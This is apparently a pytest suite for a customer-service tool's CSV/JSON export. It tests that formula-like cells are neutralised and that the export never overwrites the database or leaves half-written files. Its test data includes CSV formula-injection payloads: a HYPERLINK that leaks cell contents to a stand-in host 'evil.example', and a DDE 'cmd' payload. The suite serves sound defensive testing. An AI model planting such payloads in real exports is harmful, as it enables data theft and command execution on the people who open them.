"""``kefu-assist export``: CSV cells a spreadsheet would run are neutralised, and the output never
lands on the usage database (or its journal, backups, spool) and never half-replaces a file."""
from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import threading
import unicodedata
import uuid
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kefu_assist import cli
from kefu_assist.store import db
from kefu_assist.store.cli import FORMULA_TRIGGERS, neutralise_cell
from kefu_assist.store.recorder import write_events

# What Excel, LibreOffice and Google Sheets take for the start of a formula (OWASP's list), and
# the full-width and small forms a Chinese input method types for the same signs.
DANGEROUS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我查看订单\")",
    "=1+2",
    "+86 138 0000 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\tanything after a tab",
    "\ranything after a carriage return",
    "  =1+2",
    "\u3000=1+2",  # ideographic space, as a Chinese keyboard types it
    "\n=1+2",
    "＝HYPERLINK(\"http://evil.example\")",
    "＋1",
    "－1",
    "＠SUM(1,2)",
    "﹦1+2",
]
HARMLESS = ["能开发票吗", "包邮吗?", "'=already quoted", "5-10 天", "a=b", "x@y.com", "", "1+1=2"]


def _starts_like_a_formula(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    rest = cell.lstrip()
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[:1] in FORMULA_TRIGGERS


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_cells_get_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_left_alone(text):
    assert neutralise_cell(text) == text


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=30))
@settings(max_examples=500, deadline=None)
def test_no_cell_leaves_starting_like_a_formula(text):
    out = neutralise_cell(text)
    assert out in (text, "'" + text)  # nothing is lost: at most one quote in front
    assert not _starts_like_a_formula(out)
    assert (out == text) == (not _starts_like_a_formula(text))


def test_numbers_are_not_text():
    assert neutralise_cell(-1) == -1 and neutralise_cell(-0.5) == -0.5 and neutralise_cell(None) is None


# -- end to end -------------------------------------------------------------------------------
def _fill(url: str, texts: list[str]) -> None:
    engine = db.open_database(url)
    try:
        events = []
        for i, t in enumerate(texts):
            events.append({"kind": "copy", "uuid": str(uuid.uuid4()), "ts": "2026-03-01T10:00:00", "agent": t[:100],
                           "script_id": t[:200] or "s", "category": t[:100], "variant": 0, "rank": 1, "score": -0.5,
                           "question": t, "seconds_to_copy": float(i)})
            events.append({"kind": "unmatched", "uuid": str(uuid.uuid4()), "ts": "2026-03-01T10:00:00", "agent": t[:100], "question": t})
        write_events(engine, events)
    finally:
        engine.dispose()


def _export(capsys, *args: str) -> tuple[int, str, str]:
    code = cli.main(["export", *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("what", ["events", "unmatched"])
def test_csv_export_neutralises_every_text_column(db_url, capsys, what):
    _fill(db_url, DANGEROUS)
    code, out, err = _export(capsys, "--db", db_url, "--what", what, "--format", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == len(DANGEROUS)
    text_columns = {"events": ["event_uuid", "ts", "agent", "script_id", "category", "question"],
                    "unmatched": ["agent", "question", "norm_key", "first_seen", "last_seen"]}[what]
    seen = set()
    for row in rows:
        for column in text_columns:
            assert not _starts_like_a_formula(row[column]), (column, row[column])
        for column in ("agent", "question") + (("script_id", "category") if what == "events" else ()):
            assert row[column].startswith("'"), (column, row[column])
        seen.add(row["question"][1:])
        if what == "events":
            assert row["score"] == "-0.5"  # a number stays a number
    assert seen == set(DANGEROUS)  # the text itself is all there, behind the quote


def test_json_export_keeps_text_as_is(sqlite_url, capsys):
    _fill(sqlite_url, DANGEROUS[:3])
    code, out, err = _export(capsys, "--db", sqlite_url, "--what", "events", "--format", "json")
    assert code == 0, err
    assert [r["question"] for r in json.loads(out)] == DANGEROUS[:3]


# -- never over the database ------------------------------------------------------------------
@pytest.fixture
def sqlite_db(tmp_path) -> Path:
    path = tmp_path / "data" / "usage.sqlite3"
    _fill(f"sqlite:///{path}", ["能开发票吗"] * 3)
    return path


def _rows_in(path: Path) -> int:
    conn = sqlite3.connect(str(path))
    try:
        return conn.execute("SELECT count(*) FROM copy_events").fetchone()[0]
    finally:
        conn.close()


def _targets(path: Path, tmp_path: Path) -> list[Path]:
    hard = tmp_path / "export-hardlink.csv"
    os.link(path, hard)
    soft = tmp_path / "export-symlink.csv"
    soft.symlink_to(path)
    chain = tmp_path / "chain.csv"
    chain.symlink_to(soft)
    wal_link = tmp_path / "wal-link.csv"
    wal_link.symlink_to(path.with_name(path.name + "-wal"))  # dangling now: SQLite removes -wal at close
    backup = db.backup_sqlite(path, "0003")
    return [
        path, path.parent / ".." / "data" / path.name, hard, soft, chain, wal_link, backup,
        path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm"), path.with_name(path.name + "-journal"),
        path.with_name(path.name + ".bak-0001-20260101T000000000000Z"),
    ]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_refuses_to_write_over_the_database(sqlite_db, tmp_path, capsys, fmt):
    url = f"sqlite:///{sqlite_db}"
    before = sqlite_db.read_bytes()
    for target in _targets(sqlite_db, tmp_path):
        existed = target.exists()
        size = target.stat().st_size if existed else None
        code, out, err = _export(capsys, "--db", url, "--what", "events", "--format", fmt, "-o", str(target))
        assert code != 0, target
        assert "database" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
        assert target.exists() == existed and (not existed or target.stat().st_size == size)
    assert sqlite_db.read_bytes() == before and _rows_in(sqlite_db) == 3


def test_export_refuses_the_default_database_and_its_spool(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("KEFU_ASSIST_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("KEFU_ASSIST_CONFIG_DIR", str(tmp_path / "cfg"))
    path = tmp_path / "data" / db.DB_FILE
    _fill(f"sqlite:///{path}", ["能开发票吗"])
    spool = tmp_path / "data" / "spool" / "0123456789ab"
    spool.mkdir(parents=True)
    (spool / "1-2-3.jsonl").write_text('{"kind": "copy"}\n', encoding="utf-8")
    for target in (path, spool / "1-2-3.jsonl", spool / "new.csv"):
        code, _, err = _export(capsys, "--what", "events", "-o", str(target))
        assert code != 0 and "Traceback" not in err, target
    assert _rows_in(path) == 1 and (spool / "1-2-3.jsonl").read_text(encoding="utf-8") == '{"kind": "copy"}\n'
    assert not (spool / "new.csv").exists()


def test_export_from_another_database_still_spares_the_sidebars_own(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("KEFU_ASSIST_DATA_DIR", str(tmp_path / "data"))
    own = tmp_path / "data" / db.DB_FILE
    _fill(f"sqlite:///{own}", ["能开发票吗"])
    other = tmp_path / "other.sqlite3"
    _fill(f"sqlite:///{other}", ["包邮吗"])
    for target in (own, own.with_name(own.name + "-wal"), own.with_name(own.name + ".bak-0001-x")):
        code, _, err = _export(capsys, "--db", f"sqlite:///{other}", "--what", "events", "-o", str(target))
        assert code != 0 and "database" in err, target
    assert _rows_in(own) == 1


def test_export_to_a_file_beside_the_database_is_fine(sqlite_db, capsys):
    out = sqlite_db.with_name("usage.sqlite3.csv")
    code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "-o", str(out))
    assert code == 0, err
    assert len(list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))) == 3


def test_export_replaces_a_file_whole_and_keeps_a_symlink(sqlite_db, tmp_path, capsys):
    real = tmp_path / "reports" / "copies.csv"
    real.parent.mkdir()
    real.write_text("old report\n" * 1000, encoding="utf-8")
    os.chmod(real, 0o640)
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "-o", str(link))
    assert code == 0, err
    assert link.is_symlink() and os.readlink(link) == str(real)
    text = real.read_text(encoding="utf-8-sig")
    assert "old report" not in text and len(list(csv.DictReader(io.StringIO(text)))) == 3
    assert stat.S_IMODE(real.stat().st_mode) == 0o640  # the file's own mode is kept
    assert sorted(p.name for p in real.parent.iterdir()) == ["copies.csv"]  # no temporary file left


def test_a_new_export_file_is_private(sqlite_db, tmp_path, capsys):
    out = tmp_path / "new.csv"
    code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "-o", str(out))
    assert code == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # buyer questions: for its owner only


def test_a_failed_export_leaves_the_old_file_intact(sqlite_db, tmp_path, capsys, monkeypatch):
    from sqlalchemy.exc import OperationalError

    from kefu_assist.store import cli as store_cli

    out = tmp_path / "copies.csv"
    out.write_text("yesterday's report\n", encoding="utf-8")
    real_rows = store_cli._rows

    def failing_rows(*args, **kwargs):
        columns, rows = real_rows(*args, **kwargs)

        def generate():
            yield next(rows)
            raise OperationalError("SELECT", {}, Exception("disk I/O error"))  # the database fails midway

        return columns, generate()

    monkeypatch.setattr(store_cli, "_rows", failing_rows)
    for fmt in ("csv", "json"):
        code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "--format", fmt, "-o", str(out))
        assert code == 1 and "disk I/O error" in err and "Traceback" not in err
        assert out.read_text(encoding="utf-8") == "yesterday's report\n"
        assert sorted(p.name for p in tmp_path.iterdir() if p.name != "data") == ["copies.csv"]


def test_export_into_a_folder_is_one_clear_line(sqlite_db, tmp_path, capsys):
    code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "-o", str(tmp_path))
    assert code != 0 and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "-o", str(tmp_path / "no" / "such" / "x.csv"))
    assert code != 0 and len(err.strip().splitlines()) == 1 and "Traceback" not in err


def test_export_into_a_pipe_writes_to_it(sqlite_db, tmp_path, capsys):
    """A FIFO (or /dev/stdout, /dev/null) is written to, never replaced by a regular file."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)  # never holds up the run
    reader.start()
    code, _, err = _export(capsys, "--db", f"sqlite:///{sqlite_db}", "--what", "events", "-o", str(fifo))
    reader.join(30)
    assert code == 0, err
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert len(list(csv.DictReader(io.StringIO(got[0].decode("utf-8-sig"))))) == 3
